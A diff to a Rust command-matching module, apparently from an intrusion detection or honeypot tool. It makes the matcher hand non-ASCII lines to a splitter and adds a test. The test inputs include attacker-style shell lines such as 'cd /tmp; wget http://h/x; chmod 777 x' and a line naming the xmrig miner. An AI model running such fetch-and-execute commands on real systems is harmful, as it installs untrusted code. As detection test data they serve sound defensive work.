@@ -17,8 +17,8 @@ use crate::matcher::{CommandField, Matcher, PrimSet};
 use crate::needles::{Needles, GATHERED};
 use crate::shell::{self, SPECIAL};
 
-/// The `command` automaton's byte classes, with the splitter's special bytes marked by
-/// [`Classes::SPECIAL`]: one lookup a byte tells both.
+/// The `command` automaton's byte classes, with the splitter's special bytes and the
+/// non-ASCII ones marked by [`Classes::SPECIAL`]: one lookup a byte tells all three.
 pub(crate) struct Classes([u32; 256]);
 
 impl Classes {
@@ -28,7 +28,8 @@ impl Classes {
         let (_, classes, _, _) = needles.parts();
         let mut t = [0u32; 256];
         for (b, t) in t.iter_mut().enumerate() {
-            *t = u32::from(classes[b]) | if SPECIAL[b] { Classes::SPECIAL } else { 0 };
+            let special = SPECIAL[b] || b >= 0x80;
+            *t = u32::from(classes[b]) | if special { Classes::SPECIAL } else { 0 };
         }
         Classes(t)
     }
@@ -73,17 +74,18 @@ impl Sink<'_, '_> {
     }
 }
 
-/// Adds what the commands of `line` (ASCII) and their download URLs match for protocol bit
-/// `proto`, whose commands the matcher looks at.
-/// Returns whether a `command_line` literal turned up in a command, and how many commands
-/// there were (as [`crate::extract::commands_of_line`] counts them).
+/// Adds what the commands of `line` and their download URLs match for protocol bit `proto`,
+/// whose commands the matcher looks at. Returns whether a `command_line` literal turned up
+/// in a command, and how many commands there were (as [`crate::extract::commands_of_line`]
+/// counts them); `None` when the line is not ASCII, which the walk finds on the way (its
+/// own test of each byte, so the line needs none of its own). What was added by then came
+/// from whole ASCII commands before that byte, as matching the splitter's commands adds too.
 pub(crate) fn match_commands(
     field: &CommandField<'_>,
     line: &str,
     proto: u32,
     hits: &mut PrimSet,
-) -> (bool, usize) {
-    debug_assert!(line.is_ascii());
+) -> Option<(bool, usize)> {
     let matcher = field.matcher();
     let b = line.as_bytes();
     let n = b.len();
@@ -98,9 +100,7 @@ pub(crate) fn match_commands(
     let mut inner: Vec<(usize, usize)> = Vec::new();
     let (table, _, start_state, first_match) = field.needles.parts();
     let info = &field.classes.0;
-    let Some(mask) = table.len().checked_sub(1) else {
-        return (false, 0);
-    };
+    let mask = table.len().checked_sub(1)?;
     // The matches of the command being walked, as (state, end from the command's start);
     // `gathered` counts past the array's length.
     let mut found = [(0u32, 0u32); GATHERED];
@@ -126,6 +126,9 @@ pub(crate) fn match_commands(
         ($from:expr, $to:expr) => {{
             let (from, to) = ($from, usize::min($to, n));
             for (k, &c) in b.get(from..to).unwrap_or(&[]).iter().enumerate() {
+                if !c.is_ascii() {
+                    return None;
+                }
                 step!(info[usize::from(c)] & !Classes::SPECIAL, from + k);
             }
             to
@@ -168,6 +171,7 @@ pub(crate) fn match_commands(
                 let x = info[usize::from(c)];
                 if x & Classes::SPECIAL != 0 {
                     match c {
+                        0x80..=0xFF => return None,
                         b'\\' => {
                             p = feed!(p, p + 2);
                             continue;
@@ -261,7 +265,7 @@ pub(crate) fn match_commands(
             }
         }
     }
-    (sink.hint, sink.commands)
+    Some((sink.hint, sink.commands))
 }
 
 /// Past ASCII white space other than `\n` and `\r` (which cut).
@@ -301,7 +305,8 @@ mod tests {
 
     fn in_one_pass(m: &Matcher, line: &str, proto: u32) -> (PrimSet, bool, usize) {
         let mut hits = PrimSet::new(m.primitive_count());
-        let (hint, commands) = match_commands(&m.command_field().unwrap(), line, proto, &mut hits);
+        let (hint, commands) =
+            match_commands(&m.command_field().unwrap(), line, proto, &mut hits).unwrap();
         (hits, hint, commands)
     }
 
@@ -372,6 +377,44 @@ mod tests {
             format!("echo $(id; ls) {}", "id;".repeat(255)),
         ] {
             check(m, &line);
+        }
+    }
+
+    /// A line with a byte past ASCII anywhere, quoted or escaped included, is left to the
+    /// splitter; what the walk added before it finds one the splitter's commands add too.
+    fn check_not_ascii(m: &Matcher, line: &str) {
+        let proto = protocol_bit(Protocol::Ssh);
+        let mut hits = PrimSet::new(m.primitive_count());
+        let field = m.command_field().unwrap();
+        assert_eq!(
+            match_commands(&field, line, proto, &mut hits),
+            None,
+            "{line:?}"
+        );
+        let mut all = PrimSet::new(m.primitive_count());
+        extract::commands_of_line(line, &mut |f, v| {
+            if m.wants(f, proto) {
+                m.match_value(f, v, proto, &mut all);
+            }
+        });
+        assert!(hits.is_subset(&all), "{line:?}");
+    }
+
+    #[test]
+    fn lines_past_ascii_are_left_to_the_splitter() {
+        let m = matcher();
+        for line in [
+            "é",
+            "cd /tmp; wget http://h/x; chmod 777 x; echo é",
+            "ls; echo 'é'; id",
+            "ls; echo \"é\"",
+            "ls \\é",
+            "echo $(é); ls",
+            "echo `é`; ls",
+            "wget http://h/x\u{a0}",
+            "xmrig; sh -c 'id'; \u{2003}",
+        ] {
+            check_not_ascii(m, line);
         }
     }
 
